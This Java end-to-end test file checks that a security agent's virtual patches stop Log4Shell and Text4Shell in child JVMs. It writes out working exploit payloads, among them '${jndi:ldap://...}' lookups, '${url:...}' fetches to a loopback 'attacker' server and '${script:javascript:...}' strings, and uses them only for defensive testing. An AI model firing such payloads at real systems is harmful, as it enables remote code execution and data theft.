package secplane.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import secplane.cli.Attacher;
import secplane.protocol.json.Json;
import secplane.testbeds.attacks.AttackResult;
import secplane.testbeds.attacks.LdapCallbackListener;
import secplane.testbeds.attacks.Log4ShellAttack;
import secplane.testbeds.attacks.Testbed;

/**
 * Virtual patches in the real agent jar against the real vulnerable libraries, in child JVMs on
 * JDK 17 and JDK 25: Log4Shell (CVE-2021-44228, log4j-core 2.14.1 in Tomcat's webapp loader) and
 * Text4Shell (CVE-2022-42889, commons-text 1.9) work without the patch, stop when it is written to
 * the watched policy file or pushed in a signed snapshot, and work again when it is removed, with
 * no restart; a patch naming a class or method the JVM does not have is refused and the previous
 * policy stays in force.
 *
 * <p>The built-in JNDI aspect would stop Log4Shell on its own, so these policies switch it off:
 * what stops the exploit here is the patch alone.
 */
class VirtualPatchTest {
    private static final String JNDI_LOOKUP_PATCH = """
            {"id": "log4shell-jndi-lookup", "advisories": ["CVE-2021-44228", "CVE-2021-45046"],
             "class": "org.apache.logging.log4j.core.lookup.JndiLookup", "method": "lookup",
             "descriptor": "(Lorg/apache/logging/log4j/core/LogEvent;Ljava/lang/String;)Ljava/lang/String;",
             "action": "return", "value": null}""";
    private static final String TEXT4SHELL_PATCHES = """
            {"id": "text4shell-url", "advisories": ["CVE-2022-42889"], "class": "org.apache.commons.text.lookup.UrlStringLookup",
             "method": "lookup", "action": "return", "value": null},
            {"id": "text4shell-dns", "advisories": ["CVE-2022-42889"], "class": "org.apache.commons.text.lookup.DnsStringLookup",
             "method": "lookup", "action": "return", "value": null},
            {"id": "text4shell-script", "advisories": ["CVE-2022-42889"], "class": "org.apache.commons.text.lookup.ScriptStringLookup",
             "method": "lookup", "action": "return", "value": null}""";
    private static final String NO_JNDI_ASPECT = "\"aspects\": {\"jndi\": {\"enabled\": false}}";

    @TempDir
    Path tmp;

    // ------------------------------------------------------------------ Log4Shell, policy file

    @ParameterizedTest(name = "{0}")
    @MethodSource("secplane.e2e.TestEnv#javaHomes")
    void log4ShellStopsWhenThePatchIsWrittenToThePolicyFileAndWorksAgainWhenItIsRemoved(Path javaHome) throws Exception {
        Path data = tmp.resolve("data");
        Path policy = tmp.resolve("policy.json");
        write(policy, "{\"version\": \"base\", " + NO_JNDI_ASPECT + "}");
        Log4ShellAttack attack = new Log4ShellAttack();
        try (Testbed app = Testbed.builder().javaHome(javaHome).workDir(Files.createDirectories(tmp.resolve("app")))
                .jvmArgs(TestEnv.agentArg(data, "policy=" + policy, "poll.ms=200", "service=vulnapp")).start()) {
            AttackResult before = attack.fire(app, Log4ShellAttack.Variant.PLAIN);
            assertThat(before.exploited()).as("without the patch: %s", before.evidence()).isTrue();

            write(policy, "{\"version\": \"patched\", " + NO_JNDI_ASPECT + ", \"patches\": [" + JNDI_LOOKUP_PATCH + "]}");
            Map<String, Object> patch = awaitPatch(data, "log4shell-jndi-lookup", "active");
            assertThat(patch).containsEntry("classes", 1L);
            assertThat((String) patch.get("detail")).startsWith("JndiLookup.lookup woven in 1 loaded class (loader: ")
                    .as("log4j is in the webapp's own loader").doesNotContain("loader: app)");
            assertThat(((Number) patch.get("retransformMillis")).longValue()).isLessThan(2000);

            int logged = count(app.stdout(), "user message: ${jndi:ldap://127.0.0.1:");
            AttackResult after = attack.fire(app);
            assertThat(after.exploited()).as("with the patch, every variant: %s", after.evidence()).isFalse();
            assertThat(app.healthy()).isTrue();
            assertThat(count(app.stdout(), "user message: ${jndi:ldap://127.0.0.1:"))
                    .as("the log call still logs the message, with the lookup unexpanded").isGreaterThan(logged);
            Map<String, Object> event = TestEnv.awaitEvent(data, TestEnv.verdict("log4shell-jndi-lookup", "patched"));
            assertThat(event).containsEntry("joinPoint", "patch").containsEntry("aspect", "virtual-patch").containsEntry("service", "vulnapp");
            assertThat(TestEnv.evidence(event)).containsEntry("class", "org.apache.logging.log4j.core.lookup.JndiLookup")
                    .containsEntry("advisories", "CVE-2021-44228, CVE-2021-45046");

            write(policy, "{\"version\": \"unpatched\", " + NO_JNDI_ASPECT + "}");
            Awaitility.await().atMost(Duration.ofSeconds(20)).until(() -> "unpatched".equals(TestEnv.status(data).get("policyVersion")));
            assertThat(patches(data)).isEmpty();
            AttackResult again = attack.fire(app, Log4ShellAttack.Variant.PLAIN);
            assertThat(again.exploited()).as("the patch removed, the original bytecode is back: %s", again.evidence()).isTrue();
        }
        TestEnv.awaitEvent(data, e -> "patch.removed".equals(e.get("type")) && "log4shell-jndi-lookup".equals(e.get("patch")));
    }

    // ------------------------------------------------------------------ Text4Shell, policy file

    @ParameterizedTest(name = "{0}")
    @MethodSource("secplane.e2e.TestEnv#javaHomes")
    void text4ShellStopsWhenThePatchesAreWrittenAndWorksAgainWhenTheyAreRemoved(Path javaHome) throws Exception {
        Path data = tmp.resolve("data");
        Path policy = tmp.resolve("policy.json");
        write(policy, "{\"version\": \"base\"}");
        AtomicInteger fetched = new AtomicInteger();
        HttpServer attacker = attackerServer(fetched);
        String url = "${url:UTF-8:http://127.0.0.1:" + attacker.getAddress().getPort() + "/x}";
        try (Probe p = Probe.start(javaHome, tmp, TestEnv.agentArg(data, "policy=" + policy, "poll.ms=200"))) {
            assertThat(p.send("text4shell " + url)).isEqualTo("ok replaced fetched by the victim");
            assertThat(fetched.get()).isEqualTo(1);
            assertThat(p.send("text4shell ${script:javascript:3 + 4}")).isEqualTo("ok replaced 7");

            write(policy, "{\"version\": \"patched\", \"patches\": [" + TEXT4SHELL_PATCHES + "]}");
            for (String id : List.of("text4shell-url", "text4shell-dns", "text4shell-script")) {
                awaitPatch(data, id, "active");
            }

            assertThat(p.send("text4shell " + url)).as("the lookup is left unexpanded").isEqualTo("ok replaced " + url);
            assertThat(p.send("text4shell ${script:javascript:3 + 4}")).isEqualTo("ok replaced ${script:javascript:3 + 4}");
            assertThat(p.send("text4shell ${base64Decoder:aGVsbG8=}")).as("other lookups still work").isEqualTo("ok replaced hello");
            assertThat(fetched.get()).as("no request reached the attacker's server").isEqualTo(1);
            TestEnv.awaitEvent(data, TestEnv.verdict("text4shell-url", "patched"));

            write(policy, "{\"version\": \"unpatched\"}");
            Awaitility.await().atMost(Duration.ofSeconds(20)).until(() -> patches(data).isEmpty());
            assertThat(p.send("text4shell " + url)).isEqualTo("ok replaced fetched by the victim");
            assertThat(fetched.get()).isEqualTo(2);
        } finally {
            attacker.stop(0);
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("secplane.e2e.TestEnv#javaHomes")
    void aPatchWhoseClassIsNotLoadedYetIsWovenWhenTheClassLoads(Path javaHome) throws Exception {
        Path data = tmp.resolve("data");
        Path policy = tmp.resolve("policy.json");
        write(policy, "{\"version\": \"patched\", \"patches\": [" + TEXT4SHELL_PATCHES + "]}");
        AtomicInteger fetched = new AtomicInteger();
        HttpServer attacker = attackerServer(fetched);
        String url = "${url:UTF-8:http://127.0.0.1:" + attacker.getAddress().getPort() + "/x}";
        try (Probe p = Probe.start(javaHome, tmp, TestEnv.agentArg(data, "policy=" + policy, "poll.ms=200"))) {
            Map<String, Object> waiting = awaitPatch(data, "text4shell-url", "waiting-for-class");
            assertThat((String) waiting.get("detail")).startsWith("class found by app (jar:file:").contains("commons-text-1.9.jar!")
                    .endsWith("not loaded yet; woven when it loads");

            assertThat(p.send("text4shell " + url)).isEqualTo("ok replaced " + url);
            assertThat(fetched.get()).isZero();
            awaitPatch(data, "text4shell-url", "active");
            // status.json may have been written between the weaving (state active) and the hit; it is rewritten within 2 s
            Awaitility.await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(cliStatus(data)).as("secplane status")
                    .contains("PATCH").containsPattern("text4shell-url +active +1 +1 +UrlStringLookup.lookup woven"));
        } finally {
            attacker.stop(0);
        }
    }

    // ------------------------------------------------------------------ refusals, policy file

    @ParameterizedTest(name = "{0}")
    @MethodSource("secplane.e2e.TestEnv#javaHomes")
    void aPolicyNamingAMissingClassOrMethodIsRejectedAndThePreviousOneStaysInForce(Path javaHome) throws Exception {
        Path data = tmp.resolve("data");
        Path policy = tmp.resolve("policy.json");
        String v1 = "{\"version\": \"v1\", \"aspects\": {\"jndi\": {\"enabled\": false}, \"process\": {\"rules\": {\"process.never\": \"block\"}}},"
                + " \"patches\": [" + JNDI_LOOKUP_PATCH;
        write(policy, v1 + "]}");
        try (LdapCallbackListener ldap = LdapCallbackListener.open();
                Probe p = Probe.start(javaHome, tmp, TestEnv.agentArg(data, "policy=" + policy, "poll.ms=200"))) {
            assertThat(p.send("log4j ${jndi:" + ldap.url("dc=v1") + "}")).isEqualTo("ok logged");
            awaitPatch(data, "log4shell-jndi-lookup", "active");

            write(policy, v1 + ", {\"id\": \"missing-class\", \"class\": \"org.example.Missing\", \"method\": \"lookup\", \"action\": \"throw\"}]}");
            Awaitility.await().atMost(Duration.ofSeconds(20)).until(() -> TestEnv.status(data).get("policyError") != null);
            assertThat((String) TestEnv.status(data).get("policyError")).startsWith(policy + ":4:71: ")
                    .endsWith("/patches/1/class: org.example.Missing is not in this JVM (not loaded, no class loader finds "
                            + "org/example/Missing.class); nothing was changed");

            write(policy, v1.replace("\"method\": \"lookup\"", "\"method\": \"lookupp\"") + "]}");
            Awaitility.await().atMost(Duration.ofSeconds(20)).until(() ->
                    String.valueOf(TestEnv.status(data).get("policyError")).contains("lookupp"));
            assertThat((String) TestEnv.status(data).get("policyError"))
                    .contains("/patches/0/method: org.apache.logging.log4j.core.lookup.JndiLookup (app) declares no method 'lookupp'; nothing was changed");

            assertThat(TestEnv.status(data).get("policyVersion")).isEqualTo("v1");
            assertThat(p.send("exec true")).as("process.never of v1 still holds").startsWith("blocked");
            assertThat(p.send("log4j ${jndi:" + ldap.url("dc=after-refusals") + "}")).isEqualTo("ok logged");
            assertThat(patches(data)).singleElement().satisfies(m -> assertThat(m).containsEntry("state", "active"));
            Thread.sleep(1000);
            assertThat(ldap.connections()).as("the v1 patch still holds: no lookup reached the listener").isEmpty();
        }
    }

    // ------------------------------------------------------------------ control plane: ACK, heartbeat, NACK

    @ParameterizedTest(name = "{0}")
    @MethodSource("secplane.e2e.TestEnv#javaHomes")
    @SuppressWarnings("unchecked")
    void aSignedSnapshotWithAPatchIsAckedWithItsSelfCheckAndOneNamingAMissingClassOrMethodIsNacked(Path javaHome) throws Exception {
        Path data = tmp.resolve("data");
        try (SnapshotServer server = new SnapshotServer();
                LdapCallbackListener ldap = LdapCallbackListener.open();
                Probe p = Probe.start(javaHome, tmp, TestEnv.agentArg(data, server.agentOptions("orders-1")))) {
            assertThat(p.send("log4j ready")).isEqualTo("ok logged");
            Map<String, Object> v1 = (Map<String, Object>) Json.parse("""
                    {"version": "cp-1", "aspects": {"jndi": {"enabled": false}, "process": {"rules": {"process.never": "block"}}},
                     "patches": [%s,
                       {"id": "text4shell-url", "class": "org.apache.commons.text.lookup.UrlStringLookup", "method": "lookup",
                        "action": "return", "value": null},
                       {"id": "elsewhere", "class": "org.example.Missing", "method": "m", "action": "throw", "instances": ["orders-9"]}]}
                    """.formatted(JNDI_LOOKUP_PATCH));

            Map<String, Object> ack = server.deliver(1, v1);

            assertThat(ack).containsEntry("version", 1L).containsEntry("status", "ACK");
            List<Map<String, Object>> report = (List<Map<String, Object>>) ack.get("patches");
            assertThat(report).extracting(e -> e.get("id") + " " + e.get("state") + " " + e.get("classes"))
                    .containsExactly("log4shell-jndi-lookup active 1", "text4shell-url waiting-for-class 0", "elsewhere out-of-scope 0");
            assertThat(report.get(0)).containsEntry("detail", "JndiLookup.lookup woven in 1 loaded class (loader: app)");
            assertThat(((Number) report.get(0).get("retransformMillis")).longValue()).isBetween(0L, 2000L);
            assertThat(report.get(2)).doesNotContainKey("retransformMillis");

            assertThat(p.send("text4shell ${url:UTF-8:http://127.0.0.1:1/x}")).isEqualTo("ok replaced ${url:UTF-8:http://127.0.0.1:1/x}");
            Awaitility.await().atMost(Duration.ofSeconds(20)).until(() -> server.heartbeats.stream().anyMatch(h ->
                    String.valueOf(h.get("patches")).contains("id=text4shell-url, state=active")));

            Map<String, Object> missingClass = server.deliver(2, withExtraPatch(v1,
                    Map.of("id", "missing", "class", "org.example.Missing", "method", "lookup", "action", "throw")));
            assertThat(missingClass).containsEntry("status", "NACK").doesNotContainKey("patches");
            assertThat((String) missingClass.get("error")).startsWith("policy rejected: snapshot v2:")
                    .endsWith("/patches/3/class: org.example.Missing is not in this JVM (not loaded, no class loader finds "
                            + "org/example/Missing.class); nothing was changed");

            Map<String, Object> missingMethod = server.deliver(3, withExtraPatch(v1,
                    Map.of("id", "typo", "class", "org.apache.logging.log4j.core.lookup.JndiLookup", "method", "lookupp", "action", "throw")));
            assertThat(missingMethod).containsEntry("status", "NACK");
            assertThat((String) missingMethod.get("error")).contains("/patches/3/method: org.apache.logging.log4j.core.lookup.JndiLookup (app) "
                    + "declares no method 'lookupp'; nothing was changed");

            assertThat(p.send("exec true")).as("cp-1 still holds").startsWith("blocked");
            assertThat(p.send("log4j ${jndi:" + ldap.url("dc=after-nacks") + "}")).isEqualTo("ok logged");
            Thread.sleep(1000);
            assertThat(ldap.connections()).as("the cp-1 patch still holds").isEmpty();
            Map<String, Object> cp = (Map<String, Object>) TestEnv.status(data).get("controlPlane");
            assertThat(cp).containsEntry("appliedVersion", 1L);
        }
    }

    // ------------------------------------------------------------------ a JDK class

    @ParameterizedTest(name = "{0}")
    @MethodSource("secplane.e2e.TestEnv#javaHomes")
    void aJdkMethodThatIsAlsoAJoinPointCanBePatchedAndBothRun(Path javaHome) throws Exception {
        Path data = tmp.resolve("data");
        Path policy = tmp.resolve("policy.json");
        // the JNDI aspect observes, the patch blocks: javax.naming (module java.naming) gets both hooks
        write(policy, """
                {"version": "jdk", "aspects": {"jndi": {"mode": "observe"}}, "patches": [
                  {"id": "no-remote-jndi", "class": "javax.naming.InitialContext", "method": "lookup",
                   "descriptor": "(Ljava/lang/String;)Ljava/lang/Object;", "action": "block-if", "arg": 0,
                   "matches": "^(ldap|rmi)s?:", "message": "remote JNDI is switched off"}]}""");
        try (LdapCallbackListener ldap = LdapCallbackListener.open();
                Probe p = Probe.start(javaHome, tmp, TestEnv.agentArg(data, "policy=" + policy, "poll.ms=200"))) {
            assertThat(p.send("jndi java:comp/env/x")).as("a local name passes").startsWith("ok naming exception");
            assertThat(p.send("jndi " + ldap.url("dc=patched"))).isEqualTo("blocked remote JNDI is switched off");
            awaitPatch(data, "no-remote-jndi", "active");
            TestEnv.awaitEvent(data, TestEnv.verdict("jndi.remote-lookup", "observe"));
            Map<String, Object> event = TestEnv.awaitEvent(data, TestEnv.verdict("no-remote-jndi", "block"));
            assertThat(TestEnv.evidence(event)).containsEntry("argument", ldap.url("dc=patched"));
            Thread.sleep(500);
            assertThat(ldap.connections()).isEmpty();
        }
    }

    // ------------------------------------------------------------------ attach and detach

    @ParameterizedTest(name = "{0}")
    @MethodSource("secplane.e2e.TestEnv#javaHomes")
    void attachedToARunningJvmAPatchRetransformsTheLoadedClassAndDetachRestoresIt(Path javaHome) throws Exception {
        Path data = tmp.resolve("data");
        Path policy = tmp.resolve("policy.json");
        write(policy, "{\"version\": \"attached\", " + NO_JNDI_ASPECT + ", \"patches\": [" + JNDI_LOOKUP_PATCH + "]}");
        try (LdapCallbackListener ldap = LdapCallbackListener.open();
                Probe p = Probe.start(javaHome, tmp, "-XX:+EnableDynamicAgentLoading")) {
            String pid = Long.toString(p.pid());
            assertThat(p.send("log4j ${jndi:" + ldap.url("dc=before") + "}")).isEqualTo("ok logged");
            assertThat(ldap.await(c -> c.baseDn().equals("dc=before"), Duration.ofSeconds(10))).isPresent();

            Attacher.attach(pid, TestEnv.agentJar(), "data=" + data + ",policy=" + policy);
            assertThat(patches(data)).singleElement().satisfies(m -> assertThat(m).containsEntry("state", "active")
                    .containsEntry("classes", 1L));
            assertThat(p.send("log4j ${jndi:" + ldap.url("dc=attached") + "}")).isEqualTo("ok logged");

            Attacher.detach(pid, TestEnv.agentJar());
            assertThat(p.send("log4j ${jndi:" + ldap.url("dc=detached") + "}")).isEqualTo("ok logged");
            assertThat(ldap.await(c -> c.baseDn().equals("dc=detached"), Duration.ofSeconds(10)))
                    .as("the original bytecode is back after detach").isPresent();
            assertThat(ldap.connections()).noneMatch(c -> c.baseDn().equals("dc=attached"));
        }
    }

    // ------------------------------------------------------------------ helpers

    private static Map<String, Object> withExtraPatch(Map<String, Object> policy, Map<String, Object> patch) {
        Map<String, Object> copy = new java.util.LinkedHashMap<>(policy);
        List<Object> patches = new java.util.ArrayList<>((List<?>) policy.get("patches"));
        patches.add(patch);
        copy.put("patches", patches);
        return copy;
    }

    /** A loopback HTTP server standing in for the attacker's: it counts the requests the victim makes. */
    private static HttpServer attackerServer(AtomicInteger fetched) throws Exception {
        HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/x", exchange -> {
            fetched.incrementAndGet();
            byte[] body = "fetched by the victim".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
        return server;
    }

    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> patches(Path data) throws Exception {
        Object p = TestEnv.status(data).get("patches");
        return p == null ? List.of() : (List<Map<String, Object>>) p;
    }

    private static Map<String, Object> awaitPatch(Path data, String id, String state) {
        Object[] found = new Object[1];
        Awaitility.await().atMost(Duration.ofSeconds(20)).pollInterval(Duration.ofMillis(100)).until(() -> {
            for (Map<String, Object> m : patches(data)) {
                if (id.equals(m.get("id")) && state.equals(m.get("state"))) {
                    found[0] = m;
                    return true;
                }
            }
            return false;
        });
        @SuppressWarnings("unchecked")
        Map<String, Object> m = (Map<String, Object>) found[0];
        return m;
    }

    /** What {@code secplane status <data>} prints. */
    private static String cliStatus(Path data) {
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
        java.io.PrintStream saved = System.out;
        System.setOut(new java.io.PrintStream(bytes, true, StandardCharsets.UTF_8));
        try {
            assertThat(secplane.cli.Main.run("status", data.toString())).isZero();
        } finally {
            System.setOut(saved);
        }
        return bytes.toString(StandardCharsets.UTF_8);
    }

    private static int count(String text, String part) {
        int n = 0;
        for (int i = text.indexOf(part); i >= 0; i = text.indexOf(part, i + 1)) {
            n++;
        }
        return n;
    }

    private static void write(Path file, String text) throws Exception {
        Path tmp = file.resolveSibling(file.getFileName() + ".tmp");
        Files.writeString(tmp, text);
        Files.move(tmp, file, StandardCopyOption.REPLACE_EXISTING, StandardCopyOption.ATOMIC_MOVE);
    }
}
